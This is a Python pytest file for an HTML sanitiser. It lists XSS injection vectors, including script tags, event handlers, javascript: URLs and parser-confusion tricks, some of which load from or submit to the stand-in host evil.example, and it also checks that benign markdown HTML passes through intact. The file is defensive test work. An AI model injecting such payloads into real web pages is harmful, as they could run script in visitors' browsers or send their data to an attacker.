from __future__ import annotations

import pytest

from postil.rendering.sanitising import sanitise


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example></SCRIPT>",
        '<p onclick="alert(1)">x</p>',
        '<img src="x.png" alt="" onerror="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="java&#10;script:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="vbscript:alert(1)">x</a>',
        '<img src="javascript:alert(1)" alt="">',
        '<iframe src="https://evil.example"></iframe>',
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext></p><script>alert(1)</script></mtext></math>",
        '<form action="https://evil.example"><input name="alert"></form>',
        '<p style="background: url(https://evil.example)">x</p>',
        '<style>@import "https://evil.example"</style>',
        '<meta http-equiv="refresh" content="0; url=https://evil.example">',
        '<base href="https://evil.example">',
        '<object data="https://evil.example"></object>',
        "<!-- alert(1) -->",
        '<a id="x" href="#" onmouseover="alert(1)" style="x:alert">x</a>',
    ],
)
def test_what_acts_is_taken_out(html: str) -> None:
    clean = sanitise(f"<p>before</p>{html}<p>after</p>").lower()
    assert "<p>before</p>" in clean
    assert "after" in clean
    for evil in ("alert", "evil.example", "<script", "<style", "onerror", "javascript", "http-equiv"):
        assert evil not in clean


@pytest.mark.parametrize(
    "html",
    [
        "<p>One <strong>two</strong> <em>three</em><br>four <code>five</code></p>",
        '<ol start="3">\n<li>x</li>\n</ol>',
        '<h2 id="h-x">x</h2>',
        '<mark data-notes="a b">x</mark><a class="ref" id="ref-a" href="#note-a" role="doc-noteref">1</a>',
        '<span class="timecode" data-apparatus="">00:01</span>',
        '<a href="../x/?a=1&amp;b=2#c" title="T" rel="external noopener">x</a>',
        '<a href="mailto:a@example.org">x</a>',
        '<img src="x.png" alt="A" title="T" loading="lazy" data-apparatus="">',
        '<table><tbody><tr><th>x</th><td class="align-right">y</td></tr></tbody></table>',
        "<pre><code>a\n  b &lt;c&gt;</code></pre>",
        "<blockquote>\n<p>x</p>\n</blockquote>\n<hr>",
    ],
)
def test_what_markdown_makes_stays_as_it_is(html: str) -> None:
    assert sanitise(html) == html
